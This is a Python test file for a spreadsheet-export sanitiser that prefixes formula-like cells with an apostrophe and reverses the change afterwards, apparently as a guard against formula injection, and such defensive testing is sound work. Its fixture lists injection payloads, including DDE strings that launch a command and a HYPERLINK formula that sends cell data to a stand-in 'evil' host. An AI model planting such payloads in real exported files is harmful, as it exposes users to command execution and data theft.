"""Formulas become text for a spreadsheet, and are the same formulas again afterwards."""

import pyarrow as pa
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from schema.spreadsheets import (
    defused,
    defused_column,
    is_formula,
    restored,
    restored_column,
)

FORMULAS = [
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "-1-cmd",
    "+49 170 1234567",
    "-5 cm",
    "=1",
    "-1\n=cmd",
]
HARMLESS = ["", "a", "5", "-5", "+3.25", "-1,000.5", "1e-5", "-1E+5", "-3%", "-", "--", "=", "a=b"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text):
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_words_stay_as_they_are(text):
    assert defused(text) == text


# Texts of the characters that matter are found far too rarely among all texts.
texts = st.text(st.sampled_from("'=+-@\t\r\n ＝a1.,eE%")) | st.text()


@given(texts)
@example("'=a")
@example("''=a")
@example("'-5")
@example("'")
def test_what_was_defused_is_restored(text):
    assert restored(defused(text)) == text
    assert not is_formula(defused(text))


@settings(deadline=None)
@given(st.lists(st.none() | texts))
def test_columns_are_changed_as_their_texts(column):
    array = pa.array(column, pa.string())
    changed = defused_column(array)
    expected = [None if text is None else defused(text) for text in column]
    assert changed.column.to_pylist() == expected
    assert changed.changed == sum(map(str.__ne__, map(str, column), map(str, expected)))
    back = restored_column(changed.column)
    assert back.column.to_pylist() == column
    assert back.changed == changed.changed


def test_a_text_that_was_never_defused_keeps_its_apostrophe():
    for text in ("'90s style", "'", "'-5", "it's"):
        assert restored(text) == text
